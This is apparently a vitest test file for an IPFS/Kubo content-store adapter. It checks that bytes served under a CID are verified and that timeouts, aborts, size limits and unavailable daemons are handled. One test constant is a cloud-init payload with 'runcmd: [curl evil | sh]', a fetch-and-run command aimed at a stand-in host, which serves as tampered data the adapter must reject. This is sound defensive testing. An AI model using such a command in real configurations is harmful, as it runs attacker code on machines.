// The Kubo adapter never trusts Kubo: a daemon that serves wrong bytes under a CID (here a
// stand-in answering like Kubo's /api/v0/cat and /api/v0/block/get) is caught, a daemon that
// never answers is a timeout, and a dead API is ContentStoreUnavailableError.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cidOf, openContentStore, type ContentStore } from '@dinfra/content';
import { embeddedBlockPath } from './data.ts';
import { startFakeKubo, type FakeKubo } from './fake-kubo.ts';

const enc = (s: string) => new TextEncoder().encode(s);

describe('Kubo adapter verification (Kubo stand-in serving wrong bytes)', () => {
  let repo: string;
  let genuine: ContentStore;
  const fakes: FakeKubo[] = [];
  const GOOD = enc('{"type":"cloud-init","userData":"#cloud-config\\n"}\n');
  const EVIL = enc('{"type":"cloud-init","userData":"#cloud-config\\nruncmd: [curl evil | sh]\\n"}\n');
  let goodCid: string;
  /** Blocks as a real store holds them, keyed by CID string. */
  const blocks = new Map<string, Uint8Array>();

  beforeAll(async () => {
    repo = mkdtempSync(join(tmpdir(), 'dinfra-content-'));
    genuine = await openContentStore({ ipfsRepo: repo });
    goodCid = await genuine.add(GOOD);
    const evilCid = await genuine.add(EVIL);
    for (const c of [goodCid, evilCid]) blocks.set(c, readFileSync(embeddedBlockPath(repo, c)));
  });
  afterAll(async () => {
    for (const f of fakes) await f.close();
    await genuine?.close();
    if (repo) rmSync(repo, { recursive: true, force: true });
  });
  const fake = async (routes: Parameters<typeof startFakeKubo>[0]) => {
    const f = await startFakeKubo(routes);
    fakes.push(f);
    return { f, store: await openContentStore({ ipfsApi: f.apiUrl }) };
  };

  it('other bytes under a CID, from cat and from block/get, are CidMismatchError', async () => {
    const evilRoot = blocks.get(await cidOf(EVIL))!;
    const { f, store } = await fake({ cat: () => EVIL, block: () => evilRoot });
    await expect(store.get(goodCid)).rejects.toMatchObject({ name: 'CidMismatchError', code: 'CID_MISMATCH' });
    expect(f.calls).toContain('/api/v0/cat');
    expect(f.calls).toContain('/api/v0/block/get');
  });

  it('wrong bytes from cat but genuine blocks: the verified block-by-block read wins', async () => {
    const { store } = await fake({ cat: () => EVIL, block: (cid) => blocks.get(cid) });
    expect(new TextDecoder().decode(await store.get(goodCid))).toBe(new TextDecoder().decode(GOOD));
  });

  it('genuine bytes from cat are returned without asking for blocks', async () => {
    const { f, store } = await fake({ cat: () => GOOD });
    expect(await store.get(goodCid)).toEqual(GOOD);
    expect(f.calls.filter((c) => c === '/api/v0/block/get')).toHaveLength(0);
  });

  it('a daemon that never answers is ContentNotFoundError after timeoutMs', async () => {
    const { store } = await fake({ cat: () => 'hang' });
    const err = await store.get(goodCid, { timeoutMs: 300 }).catch((e: unknown) => e);
    expect(err).toMatchObject({ name: 'ContentNotFoundError', code: 'CONTENT_NOT_FOUND' });
    expect((err as Error).message).toMatch(/not had within 300 ms/);
  });

  it("the caller's abort is an abort, not a not-found", async () => {
    const { store } = await fake({ cat: () => 'hang' });
    const ac = new AbortController();
    setTimeout(() => ac.abort(new Error('shutting down')), 100);
    await expect(store.get(goodCid, { signal: ac.signal, timeoutMs: 60_000 })).rejects.toThrow('shutting down');
  });

  it('a daemon that sends more than maxBytes (ignoring `length`) is ContentTooLargeError', async () => {
    const { store } = await fake({ cat: () => new Uint8Array(10_000) });
    await expect(store.get(goodCid, { maxBytes: 1_000 })).rejects.toMatchObject({ code: 'CONTENT_TOO_LARGE' });
  });

  it("Kubo's not-found error is ContentNotFoundError", async () => {
    const { store } = await fake({});
    await expect(store.get(goodCid)).rejects.toMatchObject({ code: 'CONTENT_NOT_FOUND' });
  });

  it('no API at the URL: openContentStore fails with ContentStoreUnavailableError', async () => {
    const port = await new Promise<number>((resolve) => {
      const s = createServer().listen(0, '127.0.0.1', () => {
        const p = (s.address() as { port: number }).port;
        s.close(() => resolve(p));
      });
    });
    await expect(openContentStore({ ipfsApi: `http://127.0.0.1:${port}` })).rejects.toMatchObject({ name: 'ContentStoreUnavailableError', code: 'CONTENT_STORE_UNAVAILABLE' });
  });

  it('both or neither of ipfsApi / ipfsRepo is refused', async () => {
    await expect(openContentStore({})).rejects.toMatchObject({ code: 'CONTENT_STORE_UNAVAILABLE' });
    await expect(openContentStore({ ipfsApi: 'http://127.0.0.1:1', ipfsRepo: repo })).rejects.toMatchObject({ code: 'CONTENT_STORE_UNAVAILABLE' });
  });
});
